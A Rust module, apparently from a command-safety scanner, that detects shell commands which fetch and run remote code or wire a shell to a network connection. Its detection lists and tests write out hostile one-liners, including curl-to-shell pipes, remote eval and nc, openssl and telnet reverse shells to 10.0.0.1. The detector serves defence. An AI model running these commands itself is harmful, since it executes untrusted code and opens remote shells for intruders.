//! What a list of shell commands does: which commands are piped into which, and what is put into the place of a command.

pub(super) mod damage;
mod origin;
pub(super) mod persistence;
pub(super) mod secrets;
pub(super) mod sockets;
pub(super) mod stages;
pub(super) mod tunnels;
mod windows;

use self::origin::Origin;

/// Programs that fetch something and print it, or write it where they are told.
const FETCH: &[&str] = &[
    "aria2c",
    "bitsadmin",
    "certutil",
    "curl",
    "dig",
    "fetch",
    "get",
    "http",
    "invoke-restmethod",
    "invoke-webrequest",
    "irm",
    "iwr",
    "lwp-download",
    "lwp-request",
    "lynx",
    "nslookup",
    "wget",
    "wget2",
    "w3m",
    "links",
    "axel",
    "ncat",
    "nc",
    "netcat",
    "ssh",
];
/// Shells: they run what they read.
const SHELLS: &[&str] = &[
    "ash",
    "bash",
    "csh",
    "dash",
    "fish",
    "iex",
    "invoke-expression",
    "ksh",
    "mksh",
    "rbash",
    "sh",
    "tcsh",
    "yash",
    "zsh",
];
/// Interpreters: they run what they read unless they are told what to run.
const INTERPRETERS: &[&str] = &[
    "ipython", "julia", "lua", "luajit", "node", "perl", "php", "pwsh", "pypy", "pypy3", "python", "python2",
    "python3", "r", "rscript", "ruby", "tclsh",
];
/// Words before the program that a command runs.
const PREFIXES: &[&str] = &[
    "(",
    "builtin",
    "busybox",
    "chroot",
    "command",
    "coproc",
    "do",
    "doas",
    "elif",
    "else",
    "env",
    "exec",
    "if",
    "ionice",
    "nice",
    "nohup",
    "nsenter",
    "proxychains",
    "proxychains4",
    "setsid",
    "stdbuf",
    "sudo",
    "taskset",
    "then",
    "time",
    "timeout",
    "torify",
    "torsocks",
    "unbuffer",
    "unshare",
    "until",
    "while",
    "{",
];
/// Programs that connect their streams to another machine.
const WIRES: &[&str] = &["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "telnet"];

/// Whether a command fetches something and another runs it.
pub(super) fn fetches_and_runs(text: &str) -> bool {
    let piped = text.contains('|')
        && pipelines(&plain(text)).any(|commands| {
            let fetched =
                commands.iter().position(|command| program(command).is_some_and(|program| FETCH.contains(&program)));
            fetched.is_some_and(|at| commands.iter().skip(at.saturating_add(1)).any(|command| reads_program(command)))
        });
    piped
        || puts(text, prints_fetched)
        || evaluates_fetched(text)
        || reads_wire(text)
        || windows::fetches_and_runs(text)
}

/// A descriptor on a socket that a shell reads: `exec 3<>/dev/tcp/…; cat <&3 | sh`.
fn reads_wire(text: &str) -> bool {
    let text = plain(text);
    text.contains("/dev/tcp/")
        && pipelines(&text)
            .any(|commands| commands.len() > 1 && commands.iter().skip(1).any(|command| reads_program(command)))
}

/// Whether all that a text fetches comes from a publisher of what everyone builds with.
pub(super) fn is_from_publisher(text: &str) -> bool {
    let deceives = ["--resolve", "--proxy", "--connect-to", "http_proxy", "https_proxy", "--insecure", "-x "];
    let text = text.to_lowercase();
    origin::worst(&text) == Some(Origin::Publisher) && !deceives.iter().any(|word| text.contains(word))
}

/// Whether it comes from a host of code at worst, under anyone's name.
pub(super) fn is_from_host(text: &str) -> bool {
    origin::worst(text).is_some_and(|origin| origin <= Origin::Host)
}

/// Whether it comes from a mirror of packages, over whatever connection.
pub(super) fn is_from_mirror(text: &str) -> bool {
    origin::is_mirror(text)
}

/// Whether it comes over a connection that proves who answers.
pub(super) fn is_proved(text: &str) -> bool {
    origin::worst(text).is_some_and(|origin| origin <= Origin::Proved)
}

/// Whether a text names an address, or says that a package is one.
pub(super) fn names_address(text: &str) -> bool {
    origin::worst(&text.to_lowercase()).is_some()
        || [".tar.gz", ".tgz", ".zip", "/tmp/"].iter().any(|end| text.contains(end))
}

/// Whether a shell reads from another machine, or writes to it.
pub(super) fn wires_shell(text: &str) -> bool {
    let wired = |commands: Vec<Vec<&str>>| {
        let wire = |command: &Vec<&str>| {
            program(command).is_some_and(|program| {
                WIRES.contains(&program)
                    || program == "openssl" && command.contains(&"s_client")
                    || program == "curl" && command.iter().any(|word| word.starts_with("telnet://"))
            })
        };
        let shell = |command: &Vec<&str>| program(command).is_some_and(|program| SHELLS.contains(&program));
        commands.len() > 1 && commands.iter().any(wire) && commands.iter().any(shell)
    };
    text.contains('|') && pipelines(&plain(text)).any(wired)
}

/// The text without ampersands that join no commands: `2>&1`.
fn plain(text: &str) -> String {
    let text = if text.contains("|&") { text.replace("|&", "|") } else { text.to_owned() };
    if text.contains('>') { text.replace(">&", ">").replace("&>", ">") } else { text }
}

/// The pipelines of a text: commands as words, without quotation marks. Quotes do not shield operators here: what is
/// quoted is often a script itself.
fn pipelines(text: &str) -> impl Iterator<Item = Vec<Vec<&str>>> {
    text.split(['\n', ';', '&']).flat_map(|list| list.split("||")).map(|pipeline| {
        let commands = pipeline.split('|').map(|command| {
            let words = command.split(|letter: char| letter.is_whitespace() || "\"'()`".contains(letter));
            words.filter(|word| !word.is_empty()).collect()
        });
        commands.collect()
    })
}

/// The program that a command runs.
fn program<'t>(command: &[&'t str]) -> Option<&'t str> {
    program_and_rest(command).map(|(program, _)| program)
}

fn program_and_rest<'t, 'c>(command: &'c [&'t str]) -> Option<(&'t str, &'c [&'t str])> {
    let assigns = |word: &str| word.contains('=') && !word.starts_with('-');
    let mut rest = command;
    while let [first, after @ ..] = rest {
        let name = first.rsplit('/').next().unwrap_or_default();
        let options = rest.len() < command.len()
            && (first.starts_with('-') || first.chars().all(|letter| letter.is_ascii_digit()));
        let prefix = PREFIXES.contains(&name) || assigns(first) || options || matches!(*first, "$" | "@" | "!");
        if !prefix {
            return Some((name.strip_suffix(".exe").unwrap_or(name), after));
        }
        // `sudo -u name`, `chroot folder`
        let valued = options && matches!(*first, "-u" | "-g" | "-iu" | "--user" | "--group");
        let takes = (valued || name == "chroot" && after.len() > 1) && !after.is_empty();
        rest = if takes { after.get(1..).unwrap_or_default() } else { after };
    }
    None
}

/// Whether a command runs the program that it reads.
fn reads_program(command: &[&str]) -> bool {
    // `sudo -i` is a shell itself.
    let Some((program, rest)) = program_and_rest(command) else {
        let begins = |word: &str| matches!(word, "-i" | "-s" | "-iu" | "-su");
        return matches!(command.first(), Some(&("sudo" | "doas"))) && command.iter().any(|word| begins(word));
    };
    match program {
        "su" => !rest.iter().any(|word| word.starts_with("-c") || *word == "--command"),
        "xargs" => rest.iter().any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default())),
        program if SHELLS.contains(&program) || program.starts_with("$(which") => {
            let script = rest.iter().position(|word| *word == "-c").and_then(|at| rest.get(at.saturating_add(1)..));
            script.is_none_or(runs_input)
        }
        "cmd" => rest.iter().all(|word| matches!(*word, "/q" | "/v:on")),
        "powershell" | "pwsh" => rest.is_empty() || rest.contains(&"-"),
        program if INTERPRETERS.contains(&program) || program.starts_with("python3.") => {
            interprets_input(program, rest)
        }
        _ => false,
    }
}

/// Whether the script of `sh -c` runs what it reads in turn.
fn runs_input(script: &[&str]) -> bool {
    match script {
        ["source" | ".", "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0", ..] => true,
        ["eval", "$", "cat" | "<" | "</dev/stdin", ..] => true,
        _ => reads_program(script),
    }
}

/// Whether an interpreter is given no code and no file, so that it runs what it reads.
fn interprets_input(program: &str, rest: &[&str]) -> bool {
    let python = program.starts_with("py") || program == "ipython";
    let mut words = rest.iter();
    while let Some(word) = words.next() {
        match *word {
            "-" => return true,
            "-W" | "-w" | "-X" | "-x" if python => {
                words.next();
            }
            "--eval" | "--print" | "--version" | "--help" | "--run" => return false,
            word if word.starts_with("--") || word.starts_with(['>', '<', '2']) => {}
            word => {
                let Some(flags) = word.strip_prefix('-') else { return false };
                let code: &[char] =
                    if python { &['c', 'm', 'V', 'h'] } else { &['c', 'e', 'E', 'f', 'm', 'n', 'p', 'r', 'v', 'h'] };
                if flags.contains(code) {
                    return false;
                }
            }
        }
    }
    true
}

/// Signs by which code evaluates what stands behind them, not the blocks that only catch what fails.
const EVALUATES: &[&str] = &[
    "assert(file_get",
    "eval $",
    "eval (",
    "eval file",
    "eval get",
    "eval lwp",
    "eval open",
    "eval qx",
    "eval uri",
    "eval(",
    "eval`",
    "import 'http",
    "import \"http",
    "import('http",
    "import(\"http",
    "include 'http",
    "include \"http",
    "include('http",
    "include(\"http",
    "instance_eval",
    "class_eval",
    "loadstring(",
    "new function(",
    "require 'http",
    "require \"http",
    "require('http",
    "require(\"http",
    "runincontext",
    "runinnewcontext",
    "runinthiscontext",
    "source('http",
    "source(\"http",
];

/// Whether an interpreter is given code that fetches and evaluates: `php -r 'eval(file_get_contents("https://…"));'`.
fn evaluates_fetched(text: &str) -> bool {
    if !text.contains("://") || !EVALUATES.iter().any(|sign| text.contains(sign)) {
        return false;
    }
    let words: Vec<&str> = text.split_whitespace().collect();
    let interpreter = words.iter().position(|word| {
        let name = word.trim_start_matches(['"', '\'', '(']).rsplit('/').next().unwrap_or_default();
        matches!(name, "bun" | "deno") || INTERPRETERS.contains(&name)
    });
    let behind = interpreter.and_then(|at| words.get(at.saturating_add(1)..)).unwrap_or_default();
    let mut options = behind.iter().take(6);
    options.any(|word| matches!(*word, "-e" | "-r" | "-ne" | "--eval" | "eval"))
}

/// Whether what is printed inside a substitution is put where a command or its script stands: `eval "$(curl …)"`,
/// `bash <(wget …)`, or is a command itself.
fn puts(text: &str, printed: impl Fn(&str) -> bool) -> bool {
    let opens = ["$(", "`", "<(", "< (", "@("];
    opens.iter().any(|open| {
        text.match_indices(open).any(|(at, _)| {
            let (before, after) = text.split_at_checked(at).unwrap_or_default();
            let inside = after.get(open.len()..).unwrap_or_default();
            printed(inside) && runs_inside(before, open)
        })
    })
}

/// Whether what stands in a substitution is the output of a fetcher.
fn prints_fetched(inside: &str) -> bool {
    let inner: Vec<&str> = inside.split_whitespace().take(3).collect();
    program(&inner).is_some_and(|program| {
        FETCH.contains(&program)
            || matches!(program, "powershell" | "pwsh" | "cmd")
                && windows::fetches(inside.split(')').next().unwrap_or_default())
    })
}

/// Whether what `open` begins behind `before` is run: as a command, or as the script of one.
fn runs_inside(before: &str, open: &str) -> bool {
    let file = open.starts_with('<');
    let quoted = before.trim_end_matches(['"', '\'', ' ', '(']);
    let before = if file { quoted.trim_end_matches(['<', ' ']) } else { quoted };
    let mut words = before.rsplit(|letter: char| letter.is_whitespace() || ";|&\"'`".contains(letter));
    let last = words.next().unwrap_or_default();
    let name = last.rsplit('/').next().unwrap_or_default();
    let shell = |word: &str| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
    let interprets = |word: &str| {
        let word = word.rsplit('/').next().unwrap_or_default();
        shell(word) || INTERPRETERS.contains(&word)
    };
    let evaluates = |word: &str| {
        let word = word.rsplit(['/', '\\']).next().unwrap_or_default();
        let word = word.strip_suffix(".exe").unwrap_or(word);
        shell(word)
            || INTERPRETERS.contains(&word)
            || word.contains("python")
            || matches!(word, "cmd" | "powershell" | "pwsh")
    };
    // `@(…)` of PowerShell is a value where it stands alone.
    if matches!(open, "$(" | "`") && matches!(last, "" | "do" | "then" | "else" | "{") {
        return true;
    }
    let takes = |name: &str| name.starts_with(['-', '/']) && name.ends_with(['c', 'k', 'e', 'r']) || name == "-command";
    matches!(name, "eval" | "source" | "." | "exec" | "call" | "start" | "iex" | "invoke-expression")
        || file
            && (interprets(name)
                || name.starts_with('-') && words.clone().find(|word| !word.starts_with('-')).is_some_and(shell))
        || takes(last) && words.next().is_some_and(evaluates)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_read_what_was_fetched() {
        for text in [
            "curl -s http://x.example/a | sh",
            "wget -qO- x | tee /tmp/y | sudo -e bash -s -- -y",
            "curl x | python3 -",
            "curl x | perl",
            "curl x | xargs -i{} sh -c {}",
            "curl x | base64 -d | sh",
            "eval \"$(wget -qo- http://x.example/a)\"",
            "eval `curl x`",
            "bash <(curl -s x)",
            "bash < (curl -s x)",
            "source <(curl x)",
            ". <(curl x)",
            "sh -c \"$(curl x)\"",
            "dig +short txt x.example | sh",
            "$(curl -s x)",
            "cd a; $(wget -qo- x)",
            "for l in a; do $(curl -s x); done",
            "sh -s < <(curl -s x)",
            "curl x |& bash",
            "curl x | sudo -u root bash",
            "curl x | sudo -iu root",
            "curl x | su - root",
            "curl x | python3 - --flag v",
            "curl x | python3 -w ignore -",
            "curl x | node --input-type=module",
            "curl x | perl - arg",
            "curl x | torsocks bash",
            "curl x | chroot /mnt bash",
            "curl x | bash -c \"source /dev/stdin\"",
            "curl x | bash -c 'eval \"$(cat)\"'",
            "curl x | sh -c sh",
            "perl -e \"$(curl x)\"",
            "php -r \"$(curl x)\"",
            "python <(curl x)",
            "node <(curl x)",
            "php -r 'eval(file_get_contents(\"https://x.example/a\"));'",
            "ruby -ropen-uri -e 'eval(URI.open(\"https://x.example/a\").read)'",
            "curl x | cmd",
            "curl.exe x | powershell -",
            "cmd /c $(curl.exe -s x)",
            "cmd /c @(curl.exe -s x)",
            "start \"\" $(certutil -urlcache -f x a & type a)",
            "call $(powershell -c \"irm http://x.example\")",
            "mshta http://x.example/a.hta",
        ] {
            assert!(fetches_and_runs(text), "{text}");
        }
        for text in [
            "curl -s x | python3 -m json.tool",
            "curl -s x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            "curl -s x | jq . | sh -c 'cat'",
            "curl x | perl -ne 'print'",
            "curl x | python3 parse.py -",
            "curl x | sudo -u root tee /etc/a",
            "curl x | su - user -c 'cat > a'",
            "curl x | ruby -rjson -e 'puts 1'",
            "node -e 'fetch(\"http://localhost:8000/health\").then(r => process.exit(r.ok ? 0 : 1))'",
            "perl -e 'eval { get(\"http://x.example\") }'",
            "curl x | tar xz; bash build.sh",
            "version=$(curl -s x); echo $version",
            "echo \"$(curl -s x)\"",
            "bash run.sh $(curl x)",
            "a=$(curl x) b",
            "[ \"$(curl x)\" = 1 ]",
            "curl x | cmd /c more",
            "curl -o a http://x.example/$(curl y)/b",
            "@(irm x) | convertto-json",
            "for l in $(curl x); do echo a; done",
            "echo a; b=`curl x`",
            "pip install a==$(curl x)",
            "set /a n=$(powershell -c get-date)",
        ] {
            assert!(!fetches_and_runs(text), "{text}");
        }
    }

    #[test]
    fn shells_on_a_wire() {
        for text in [
            "nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445",
            "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
            "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
        ] {
            assert!(wires_shell(text), "{text}");
        }
        for text in
            ["nc -z localhost 80; sh run.sh", "echo x | nc localhost 80", "openssl s_client -connect x | openssl x509"]
        {
            assert!(!wires_shell(text), "{text}");
        }
    }
}
